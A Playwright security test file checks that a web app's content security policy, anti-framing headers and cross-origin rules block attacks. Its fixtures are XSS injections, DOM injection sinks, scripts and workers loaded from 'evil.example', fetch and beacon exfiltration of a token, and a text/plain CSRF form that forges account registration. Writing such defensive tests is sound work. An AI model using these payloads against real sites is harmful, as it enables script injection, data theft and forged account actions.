import type { Page } from '@playwright/test';
import { serveForeignSite } from '../../support/servers/serveForeignSite.ts';
import { expect, test } from '../fixtures/serverTest.ts';

test.use({ allowViolations: true });

/** Opens the login page with HTML injected into its body, under the content security policy of the server. */
async function openWith(page: Page, origin: string, injectedHtml: string) {
  await page.route(`${origin}/auth/login`, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</body>', `${injectedHtml}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto(`${origin}/auth/login`);
  await expect(page.getByRole('heading', { name: 'Welcome Back!' })).toBeVisible();
}

const attackResult = (page: Page) => page.evaluate(() => Reflect.get(globalThis, 'taken') ?? null);
const payload = "globalThis.taken = 'yes'";

const injected = [
  ['a script', `<script>${payload}</script>`, /^script-src-elem inline/],
  ['a script with a nonce of its own', `<script nonce="AAAA">${payload}</script>`, /^script-src-elem inline/],
  ['an event handler', `<img src="data:," onerror="${payload}">`, /^script-src-attr inline/],
  [
    'a script with a data: URL',
    `<script src="data:text/javascript,${payload}"></script>`,
    /^script-src-elem data/,
  ],
  [
    'a frame with a script',
    `<iframe srcdoc="<script>parent.${payload}</script>"></iframe>`,
    /^script-src-elem inline/,
  ],
  ['a style', '<style>body { display: none }</style>', /^style-src-elem inline/],
  ['a plug-in', '<object data="/favicon.svg"></object>', /^object-src/],
  ['a base element', '<base href="https://evil.example/">', /^base-uri/],
] as const;

// @control:SEC-04
for (const [name, html, violation] of injected)
  test(`${name} injected into a page is blocked`, async ({ page, server, violations }) => {
    await openWith(page, server.url, html);
    await expect.poll(() => violations).toContainEqual(expect.stringMatching(violation));
    expect(await attackResult(page)).toBeNull();
  });

// @control:SEC-04
test('a script, a frame and a style sheet of another site are blocked before they are requested', async ({
  page,
  server,
  violations,
}) => {
  const evil = await serveForeignSite('');
  const scriptUrl = `${evil.url}/attack.js`;
  await openWith(
    page,
    server.url,
    `<script src="${scriptUrl}"></script><iframe src="${evil.url}/frame"></iframe><link rel="stylesheet" href="${evil.url}/a.css">`,
  );
  for (const directive of ['script-src-elem', 'frame-src', 'style-src-elem'])
    await expect.poll(() => violations).toContainEqual(expect.stringContaining(`${directive} ${evil.url}`));
  expect(await attackResult(page)).toBeNull();
  expect(evil.requests).toEqual([]);
  await evil.close();
});

// @control:SEC-04
test('a javascript: link and a form that posts to another site are blocked', async ({
  page,
  server,
  violations,
}) => {
  const evil = await serveForeignSite('');
  await openWith(
    page,
    server.url,
    `<a id="attack" href="javascript:${payload.replaceAll(' ', '')}">x</a>` +
      `<form action="${evil.url}/keep"><input name="password" value="secret"><button id="send">x</button></form>`,
  );
  await page.locator('#attack').dispatchEvent('click');
  await expect.poll(() => violations).toContainEqual(expect.stringMatching(/^script-src-elem inline/));
  await page.locator('#send').dispatchEvent('click');
  await expect.poll(() => violations).toContainEqual(expect.stringMatching(/^form-action/));
  expect(await attackResult(page)).toBeNull();
  expect(evil.requests).toEqual([]);
  await evil.close();
});

/** Injection sinks that a malicious script of the own origin would use. */
const sinks = {
  innerHTML: "document.body.innerHTML = '<img src=x onerror=1>'",
  outerHTML: "document.body.firstElementChild.outerHTML = '<b>x</b>'",
  insertAdjacentHTML: "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
  'document.write': "document.write('<b>x</b>')",
  srcdoc: "document.createElement('iframe').srcdoc = '<b>x</b>'",
  DOMParser: "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
  'script text': "document.createElement('script').textContent = '1'",
  'script src': "document.createElement('script').src = 'https://evil.example/a.js'",
  'worker URL': "new Worker('https://evil.example/a.js')",
  eval: "eval('1')",
  Function: "new Function('1')",
  'Trusted Types policy': "trustedTypes.createPolicy('evil', { createHTML: (html) => html })",
};

// @control:SEC-04
test('a script of the own origin cannot use injection sinks: innerHTML, document.write, eval, foreign workers', async ({
  page,
  server,
}) => {
  const attempts = Object.entries(sinks).map(
    ([name, code]) =>
      `try { ${code}; reached.push(${JSON.stringify(name)}) } catch { blocked.push(${JSON.stringify(name)}) }`,
  );
  await page.route('**/attack.js', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: `const reached = [], blocked = []; ${attempts.join('\n')}; globalThis.outcome = { reached, blocked };`,
    }),
  );
  await openWith(page, server.url, '<script src="/attack.js"></script>');
  await expect.poll(() => page.evaluate(() => Reflect.get(globalThis, 'outcome') !== undefined)).toBe(true);
  const outcome = await page.evaluate(() => Reflect.get(globalThis, 'outcome'));
  expect(outcome).toEqual({ reached: [], blocked: Object.keys(sinks) });
});

// @control:SEC-04
test('a page cannot send data to another origin by fetch or beacon', async ({ page, server, violations }) => {
  const evil = await serveForeignSite('');
  await page.goto(`${server.url}/auth/login`);
  const outcome = await page.evaluate(async (origin) => {
    const beacon = navigator.sendBeacon(`${origin}/beacon`, 'token');
    const fetched = await fetch(`${origin}/fetch?token`).then(
      () => 'sent',
      () => 'blocked',
    );
    return { beacon, fetched };
  }, evil.url);
  expect(outcome.fetched).toBe('blocked');
  await expect
    .poll(() => violations.filter((text) => text.startsWith(`connect-src ${evil.url}`)))
    .toHaveLength(2);
  expect(evil.requests).toEqual([]);
  await evil.close();
});

// @control:SEC-19
test('no page can be framed by another site', async ({ page, server }) => {
  for (const path of ['/', '/auth/login', '/account', '/nowhere', '/api/games/top']) {
    const evil = await serveForeignSite(`<h1>Win!</h1><iframe src="${server.url}${path}"></iframe>`);
    await page.goto(evil.url);
    await expect(page.getByRole('heading', { name: 'Win!' })).toBeVisible();
    await expect.poll(() => page.frames()[1]?.url(), path).toMatch(/^chrome-error:/);
    await evil.close();
  }
});

// @control:SEC-19
test('another site cannot register an account by a form or an opaque fetch, nor read or change a profile', async ({
  page,
  server,
}) => {
  const body = JSON.stringify({ email: 'eve@example.com', username: 'eve', password: 'correct1!' });
  const field = `${body.slice(0, -1)},"recaptchaToken":"`;
  const evil = await serveForeignSite(
    `<form method="post" enctype="text/plain" action="${server.url}/api/auth/register"><input name='${field}' value='"}'><button>Win</button></form>`,
  );
  await page.goto(evil.url);
  const outcomes = await page.evaluate(
    async ({ origin, json }) => {
      const outcome = (request: Promise<Response>) =>
        request.then(
          ({ type }) => type,
          () => 'blocked',
        );
      return {
        opaque: await outcome(
          fetch(`${origin}/api/auth/register`, {
            method: 'POST',
            mode: 'no-cors',
            credentials: 'include',
            body: json,
          }),
        ),
        preflighted: await outcome(
          fetch(`${origin}/api/profile`, {
            method: 'PATCH',
            headers: { 'content-type': 'application/json', authorization: 'Bearer a.b.c' },
            body: json,
          }),
        ),
        read: await outcome(fetch(`${origin}/api/profile`, { headers: { authorization: 'Bearer a.b.c' } })),
        open: await outcome(fetch(`${origin}/api/games/search?query=portal`)),
      };
    },
    { origin: server.url, json: body },
  );
  expect(outcomes).toEqual({ opaque: 'opaque', preflighted: 'blocked', read: 'blocked', open: 'cors' });
  const [response] = await Promise.all([
    page.waitForResponse(`${server.url}/api/auth/register`),
    page.getByRole('button', { name: 'Win' }).click(),
  ]);
  expect(response.status()).toBe(415);
  expect(server.mailedLinks()).toEqual([]);
  await evil.close();
});
